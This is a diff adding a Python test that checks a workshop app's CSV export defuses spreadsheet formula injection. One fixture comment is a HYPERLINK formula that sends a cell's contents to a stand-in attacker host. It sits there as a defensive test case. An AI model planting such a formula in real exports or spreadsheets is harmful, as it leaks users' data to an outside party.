@@ -231,3 +231,21 @@ def test_export_round_trips_through_json_and_csv(store, workshop, tmp_path):
         assert list(back.submissions["weight.human_rights"]) == [2, 5, 8]
         theirs, ours = back.results(), export.results()
         assert list(theirs.equal_footing_ranking.index) == list(ours.equal_footing_ranking.index)
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(store, workshop, tmp_path):
+    import csv
+
+    code, secret = workshop.workshop.code, workshop.secret
+    comments = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1 agreed", "-- no", "@SUM(A1)",
+                "\tTabbed", "'quoted already", "plain"]
+    for i, comment in enumerate(comments):
+        store.submit(store.join(code, "civil_society", f"n{i}"), weights(), comment)
+    path = export_round(store, code, secret).save(tmp_path / "round.csv")
+    with open(path, newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    # No cell a spreadsheet would evaluate (the number columns hold no negative values).
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Read back, every comment is exactly as stored (the store trims the tab's white space).
+    assert sorted(load_export(path).submissions["comment"]) == sorted(store.submissions(code, secret)["comment"])
+    assert "'quoted already" in list(load_export(path).submissions["comment"])
